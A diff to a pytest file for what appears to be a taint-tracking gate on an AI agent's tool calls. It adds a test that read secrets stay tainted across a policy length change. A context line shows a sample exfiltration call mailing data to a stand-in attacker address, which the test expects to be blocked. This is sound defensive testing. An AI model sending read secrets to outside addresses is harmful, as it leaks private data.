@@ -350,6 +350,22 @@ def test_copy_does_not_become_the_agents_own_words() -> None:
     assert code(agent.call("mail", "send", to="attacker@evil.example")) == "taint_escalated"
 
 
+@pytest.mark.parametrize(("before", "now"), [(12, 30), (30, 12)])
+def test_what_came_back_taints_under_a_policy_with_another_length(before: int, now: int) -> None:
+    policy, later = (
+        POLICY.replace("enabled: true", "enabled: true, min_length: {}"),
+        "and what came back later on, behind the change of the policy",
+    )
+    agent = Agent(policy.replace("{}", str(before)))
+    agent.read(SECRET)
+    agent.gate.engine = make_gate(policy.replace("{}", str(now))).engine
+    agent.read(later)
+
+    for text in (SECRET, later):
+        assert code(agent.call("mail", "send", body=text)) == "taint_escalated"
+    assert code(agent.call("mail", "send", body="its own words, of which nothing came back")) == "rule_match"
+
+
 def test_one_agent_does_not_taint_another() -> None:
     Agent().read(SECRET)
 
